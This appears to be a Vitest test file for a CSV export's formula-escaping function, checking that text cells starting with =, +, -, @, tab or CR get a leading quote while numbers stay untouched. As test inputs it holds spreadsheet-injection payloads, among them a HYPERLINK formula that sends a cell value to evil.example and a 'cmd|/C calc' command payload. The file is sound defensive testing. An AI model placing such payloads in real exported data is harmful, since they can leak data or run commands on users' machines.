import { describe, expect, it } from 'vitest';
import { formatCsv, type QueryResult } from '../../src/index.js';
import { escapeFormula } from '../../src/sql/format-csv.js';
import { csvLine, isTextType } from '../../src/sql/format-csv.js';

describe('escapeFormula', () => {
  it('puts a quote before text a spreadsheet would run as a formula (OWASP: = + - @ tab CR)', () => {
    for (const text of [
      '=HYPERLINK("http://evil.example/?x="&A1,"Claim")',
      '+1 555 0100',
      '-2+3+cmd|/C calc',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
    ]) {
      expect(escapeFormula(text)).toBe(`'${text}`);
    }
  });

  it('leaves plain numbers and other text alone', () => {
    for (const text of ['-5', '-0.05', '+1.5', '-1e3', '.5', 'Claire Gute', 'CG-12520', '', "'already"]) {
      expect(escapeFormula(text)).toBe(text);
    }
  });
});

describe('formatCsv with escapeFormulas', () => {
  const result: QueryResult = {
    columns: [
      { name: 'customer_id', type: 'VARCHAR' },
      { name: 'customer_name', type: 'VARCHAR' },
      { name: 'profit', type: 'DECIMAL(18,2)' },
      { name: 'quantity', type: 'INTEGER' },
    ],
    rows: [
      ['=HYPERLINK("http://evil.example","Claim, now")', '@Jo', '-12.50', -3],
      ['-7', null, '-0.05', 2],
    ],
  };

  it('escapes text cells only: negative profits and quantities stay numbers', () => {
    expect(formatCsv(result, { escapeFormulas: true })).toBe(
      [
        'customer_id,customer_name,profit,quantity',
        `"'=HYPERLINK(""http://evil.example"",""Claim, now"")",'@Jo,-12.50,-3`,
        '-7,,-0.05,2',
        '',
      ].join('\n'),
    );
  });

  it('writes every value verbatim without it', () => {
    expect(formatCsv(result).split('\n')[1]).toBe(`"=HYPERLINK(""http://evil.example"",""Claim, now"")",@Jo,-12.50,-3`);
  });

  it('treats VARCHAR and ENUM columns as text, nothing else', () => {
    expect(['VARCHAR', "ENUM('a', 'b')"].map(isTextType)).toEqual([true, true]);
    expect(['DECIMAL(18,2)', 'BIGINT', 'DATE', 'VARCHAR[]', 'JSON'].map(isTextType)).toEqual([
      false,
      false,
      false,
      false,
      false,
    ]);
    expect(csvLine([{ name: 'd', type: 'DATE' }], { escapeFormulas: true })(['-2016-01-01'])).toBe('-2016-01-01\n');
  });
});
